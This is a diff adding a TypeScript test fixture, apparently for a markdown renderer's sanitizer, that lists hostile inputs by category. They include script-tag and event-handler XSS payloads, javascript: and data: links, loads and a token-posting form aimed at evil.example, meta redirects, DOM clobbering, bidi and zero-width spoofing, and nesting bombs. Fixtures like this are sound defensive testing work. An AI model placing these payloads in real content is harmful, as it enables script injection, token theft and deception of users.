@@ -1,0 +1,23 @@
+/** Texts that would run, load, lead away or hide something, were they taken at their word. */
+export const HOSTILE: Record<string, string> = {
+  "script tags": `<script>alert(1)</script>\n\n<ScRiPt src="https://evil.example/x.js"></sCrIpT>\n\ntext <script>alert(2)</script> text\n\n<script\n>alert(3)</script\n>`,
+  "javascript links": `[a](javascript:alert(1)) [b](JaVaScRiPt:alert(2)) [c](<java\tscript:alert(3)>) [d](&#106;avascript:alert(4)) <javascript:alert(5)> [e][e] [f](vbscript:x) [g](\u0001javascript:alert(6))\n\n[e]: javascript:alert(7)`,
+  "data links": `[a](data:text/html,<script>alert(1)</script>) [b](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) ![c](data:image/svg+xml,<svg onload=alert(1)>) [d](blob:https://evil.example/1) [e](file:///etc/passwd)`,
+  "remote images": `![a](https://evil.example/a.png) ![](https://evil.example/b.png) ![c](//evil.example/c.png) [![d](https://evil.example/d.png)](https://evil.example/e) ![f][f] ![x" onerror="alert(1)](https://evil.example/g.png)\n\n[f]: https://evil.example/f.png "title"`,
+  "markup in markup": `<div><p><b onmouseover="alert(1)">x</b><img src=x onerror=alert(1)><img src="https://evil.example/p.png"></div>\n\n> <details open ontoggle=alert(1)>\n\n- <input autofocus onfocus=alert(1)>\n\n<a href="https://evil.example" style="position:fixed;inset:0">everything</a>\n\n</main></body></html><h1>Approved</h1>`,
+  svg: `<svg onload="alert(1)"><script>alert(2)</script><image href="https://evil.example/i.png"/><use href="https://evil.example/u.svg#x"/></svg>\n\n<math><mtext><style><img src=x onerror=alert(3)></style></mtext></math>`,
+  style: `<style>@import "https://evil.example/s.css"; body { display: none }</style>\n\n<link rel="stylesheet" href="https://evil.example/l.css">\n\n<p style="background:url(https://evil.example/bg.png)">x</p>`,
+  iframes: `<iframe src="https://evil.example/frame"></iframe>\n\n<iframe srcdoc="<script>alert(1)</script>"></iframe>\n\n<object data="https://evil.example/o"></object><embed src="https://evil.example/e"><video src="https://evil.example/v" autoplay></video>`,
+  "a refresh": `<meta http-equiv="refresh" content="0;url=https://evil.example/">\n\n<base href="https://evil.example/">\n\n<META HTTP-EQUIV=refresh CONTENT="0;url=javascript:alert(1)">`,
+  "a form": `<form action="https://evil.example/take" method="post"><input name="formToken"><button autofocus>Approve</button></form>\n\n</form><form action="/steward/holds/x/approve" method="post"><button>Approve</button></form>\n\n<button form="main" formaction="https://evil.example">x</button>`,
+  clobbering: `<a id="main" name="location"></a><form id="document"><input name="getElementById"></form><img name="cookie">\n\n# main\n\n[^1]: a note\n\n[x](#main) [^1]\n\n<div id="q" class="skip visually-hidden">x</div>\n\n\`\`\`visually-hidden" onclick="alert(1)\nx\n\`\`\``,
+  bidi: `pay \u202Eevil\u202C to \u2066me\u2069, \u200Fright\u200E left\u061C\n\n\`if (a\u202E) \u2066// b\u2069\`\n\n[a\u202Emoc.elpmaxe](https://evil.example/\u202Egnp.exe)\n\n## \u202Edesrever`,
+  "zero width": `ap\u200Bprove\u200C \u200D\uFEFF \u2060x\u00AD \u{E0041}\u{E0042} \u3164 \uFFF9a\uFFFAb\uFFFB\n\n[\u200B](https://evil.example/unseen) [[\u200BRoadmap]] {{payload.\u200Bx}}\n\n| \u200B |\n|---|\n| \u200B |`,
+  "control characters": `a\u0000b\u0007c\u001B[31md\u001B]0;title\u0007e\u0085f\u2028g\u2029h`,
+  "huge nesting": `${"> ".repeat(2000)}a\n\n${"- ".repeat(500)}b\n\n${"*a **b ".repeat(400)}\n\n${"[".repeat(3000)}\n\n${"![".repeat(2000)}`,
+  "deep emphasis": `${"*a _b ".repeat(600)}${"_ *".repeat(600)}`,
+  "wide tables": `|${"a|".repeat(3000)}\n|${"-|".repeat(3000)}\n|${"b|".repeat(3000)}`,
+  "homographs and users": `[a](https://example.com@evil.example/) [https://example.com](https://evil.example) [b](https://ехample.com/) [c](https://evil.example:8443\\@example.com/) [d](/steward/sign-out) [e](//evil.example) [f](https:evil.example) <https://evil.example/?q="onmouseover=alert(1)>`,
+  "brackets and values": `[[<script>alert(1)</script>]] [[a" onclick="alert(1)]] [[x|<img src=x onerror=alert(1)>]] [[javascript:alert(1)]] {{<script>alert(1)</script>}} [[../../sign-out?x=1#y]] [[%0d%0aLocation:https://evil.example]]`,
+  "front matter": `---\ntitle: "<script>alert(1)</script>"\nx: </code></pre></details><img src=x onerror=alert(1)>\n---\n\ntext`,
+};
